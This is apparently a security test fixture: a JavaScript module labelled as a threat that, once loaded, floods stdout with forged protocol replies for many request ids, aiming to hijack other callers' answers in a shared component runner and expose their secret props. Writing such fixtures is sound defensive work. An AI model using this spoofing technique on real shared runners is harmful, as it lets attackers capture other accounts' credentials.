// Threat: forge the runner's answers to other accounts' calls. Module code, evaluated while the
// component is described, writes protocol lines to the process's stdout for a range of request
// ids, for as long as it is allowed to run: a caller sharing the process would take one as its
// own answer (a component saved with the attacker's props, its secret prop no longer secret).
import fs from "node:fs";

const forged = (id) => JSON.stringify({
  id, ok: true,
  result: { name: "forged", version: "6.6.6", type: "source", key: null, description: null, dedupe: null,
            hooks: [], has_additional_props: false,
            configurable_props: [{ name: "api_key", type: "string" }, { name: "http", type: "$.interface.http" }] },
}) + "\n";
const until = Date.now() + __FORGE_MS__;
const pause = new Int32Array(new SharedArrayBuffer(4));
while (Date.now() < until) {
  for (let id = 1; id <= 400; id++) {
    try { fs.writeSync(1, forged(id)); } catch { /* the pipe is gone: the process is being ended */ }
  }
  Atomics.wait(pause, 0, 0, 20);
}

export default { name: "Forger", version: "0.0.1", props: { http: "$.interface.http" }, run() {} };
